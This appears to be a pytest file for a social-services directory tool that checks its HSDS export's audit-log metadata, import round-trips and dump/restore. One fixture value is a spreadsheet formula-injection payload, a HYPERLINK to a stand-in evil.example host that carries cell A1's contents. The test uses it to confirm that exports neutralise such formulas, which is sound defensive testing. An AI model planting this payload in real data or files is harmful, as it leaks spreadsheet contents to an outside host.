"""HSDS carries the living directory, on SQLite and on PostgreSQL: the export's metadata table is
the store's audit log of the records exported (a hostile proposal's text neutralised), it
validates against the standard, the import keeps it with the freshness fields, a directory with
no store exports none, and the dump's HSDS package has the very same rows."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import Engine

from lien import store
from lien.ingest import hsds as hsds_in
from lien.openreferral import hsds_id
from lien.outputs import hsds as hsds_out
from lien.outputs import hsds_metadata
from lien.store import proposals
from lien.store.__main__ import main
from lien.store.history import Change
from lien.store.proposals import decide, propose
from tests.outputs.test_hsds import _frictionless_errors
from tests.store import test_proposals as proposed
from tests.store.test_proposals import VISITOR

NEW = {
    **proposed.NEW,
    # What a hostile visitor would have a spreadsheet run, once a reviewer accepted it.
    "notes": '=HYPERLINK("http://evil.example/?"&A1,"click")',
}
NEW_ID = "maison-de-l-accueil-1"


def _files(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"), newline="")))


def _history(engine: Engine) -> pd.DataFrame:
    """A correction by ana, a new organisation accepted by bob, a record closed for good and
    one for a while: the current frame (the pages', without the defunct record)."""
    store.publish(engine, {"apd-namur": {"phone": "081 22 33 44"}}, "ana", "called", against=1)
    receipt = propose(engine, proposals.Submission(None, NEW), VISITOR)
    assert isinstance(receipt, proposals.Receipt)
    decide(engine, receipt.reference, "accept", "bob", "", against=2)
    store.publish(engine, {"apd-mons": {"status": "defunct"}}, "ana", "closed", against=3)
    store.publish(engine, {"seso-siege": {"status": "temporarily closed"}}, "ana", "", against=4)
    return store.current(engine)[1]


def test_the_export_s_metadata_is_the_audit_log_of_the_records_exported(
    engine: Engine, url: str, tmp_path: Path
) -> None:
    frame = _history(engine)
    view = frame[frame["site_id"].isin(["apd-namur", NEW_ID])]
    data = hsds_out.export_zip(view, store=url)
    rows = _rows(_files(data)["metadata.csv"])
    today = proposals.now().date().isoformat()  # the store's day (UTC)
    namur = [r for r in rows if r["resource_id"] == hsds_id("service", "apd-namur")]
    phone = next(r for r in namur if r["field_name"] == "phone")
    assert phone["last_action_type"] == "update"
    assert phone["replacement_value"] == "081 22 33 44"
    assert phone["previous_value"] not in ("", "081 22 33 44")
    assert (phone["updated_by"], phone["resource_type"]) == ("ana", "service")
    assert phone["last_action_date"] == today
    # The new record's fields were created by the reviewer who accepted it, from nothing.
    added = [r for r in rows if r["resource_id"] == hsds_id("service", NEW_ID)]
    assert {r["last_action_type"] for r in added} == {"create"}
    assert {r["previous_value"] for r in added} == {hsds_metadata.NO_VALUE}
    assert {r["updated_by"] for r in added} == {"bob"}
    by_field = {r["field_name"]: r["replacement_value"] for r in added}
    assert (by_field["checked_on"], by_field["checked_by"]) == (today, "bob")
    # The formula reaches the log, and goes out as text no spreadsheet runs.
    assert by_field["notes"] == "'" + NEW["notes"]
    # Only the records exported: the closed one's history stays out of this view's file.
    assert hsds_id("service", "apd-mons") not in {r["resource_id"] for r in rows}
    # No decision row: a decision changes no field.
    assert "proposal" not in {r["field_name"] for r in rows}
    assert _frictionless_errors(data, tmp_path) == []


def test_the_import_keeps_the_history_and_the_freshness_fields(engine: Engine, url: str) -> None:
    frame = _history(engine)
    first = _files(hsds_out.export_zip(frame, store=url))
    # Read back with no store (an upload, a kiosk), then exported again: the same history and
    # the same status, assured_date and last_modified, byte for byte.
    again = _files(hsds_out.export_zip(hsds_in.import_zip(hsds_out._zip(first))))
    assert _rows(again["metadata.csv"]) == _rows(first["metadata.csv"]) != []
    assert again["metadata.csv"] == first["metadata.csv"]
    keep = ("id", "status", "assured_date", "last_modified")
    services = [{k: r[k] for k in keep} for r in _rows(first["services.csv"])]
    assert [{k: r[k] for k in keep} for r in _rows(again["services.csv"])] == services
    assert {"temporarily closed", "active"} <= {s["status"] for s in services}


def test_a_view_of_part_of_an_imported_package_keeps_only_its_records_history(
    engine: Engine, url: str
) -> None:
    frame = _history(engine)
    imported = hsds_in.import_zip(hsds_out.export_zip(frame, store=url))
    part = imported[imported["site_id"] == NEW_ID]
    rows = _rows(_files(hsds_out.export_zip(part))["metadata.csv"])
    assert {r["resource_id"] for r in rows} == {hsds_id("service", NEW_ID)}


def test_a_directory_without_a_store_exports_an_empty_history(engine: Engine) -> None:
    frame = _history(engine)
    files = _files(hsds_out.export_zip(frame))
    assert _rows(files["metadata.csv"]) == []
    assert files["metadata.csv"].decode("utf-8").startswith("id,resource_id,resource_type,")


def test_the_dump_carries_the_same_hsds_package_and_restores_identically(
    engine: Engine, url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    frame = _history(engine)
    first, second = tmp_path / "first.zip", tmp_path / "second.zip"
    assert main(["dump", str(first), "--url", url]) == 0
    dumped = _files(first.read_bytes())
    exported = _files(hsds_out.export_zip(frame, store=url))
    # One home: the dump's metadata is the export's, for every record of the directory, the
    # defunct one too (off the map, never out of the data).
    shown = _rows(exported["metadata.csv"])
    in_dump = _rows(dumped["metadata.csv"])
    mons = hsds_id("service", "apd-mons")
    assert [r for r in in_dump if r["resource_id"] != mons] == shown
    assert ("status", "defunct") in {
        (r["field_name"], r["replacement_value"]) for r in in_dump if r["resource_id"] == mons
    }
    services = _rows(dumped["services.csv"])
    assert [s for s in services if s["status"] != "defunct"] == _rows(exported["services.csv"])
    assert {"audit.jsonl", "lien-store.json", "datapackage.json"} <= set(dumped)
    monkeypatch.delenv("LIEN_DATABASE_URL", raising=False)
    monkeypatch.setenv("LIEN_DATABASE_PATH", str(tmp_path / "restored.sqlite3"))
    assert main(["restore", str(first)]) == 0
    assert main(["dump", str(second)]) == 0
    assert first.read_bytes() == second.read_bytes()


def _change(number: int, field: str, old: str | None, new: str | None) -> Change:
    return Change(number, datetime(2026, 12, 3, 10), "ana", 7, "apd-namur", field, old, new)


def test_a_removed_record_s_history_says_delete_and_a_date_first_set_update() -> None:
    removed = hsds_metadata.rows(
        [_change(1, "status", "active", None), _change(2, "phone", "081", None)]
    )
    assert [r["last_action_type"] for r in removed] == ["delete", "delete"]
    assert [r["replacement_value"] for r in removed] == [hsds_metadata.NO_VALUE] * 2
    first_check = hsds_metadata.rows([_change(3, "checked_on", None, "2026-12-03")])
    assert first_check[0]["last_action_type"] == "update"
    assert first_check[0]["last_action_date"] == "2026-12-03"


def test_a_store_that_can_t_be_read_leaves_the_download_without_history(
    engine: Engine, caplog: pytest.LogCaptureFixture
) -> None:
    frame = store.current(engine)[1]
    nowhere = "sqlite:////proc/lien-nowhere/lien.sqlite3"
    rows = _rows(_files(hsds_out.export_zip(frame, store=nowhere))["metadata.csv"])
    assert rows == []
    assert "without its history" in caplog.text
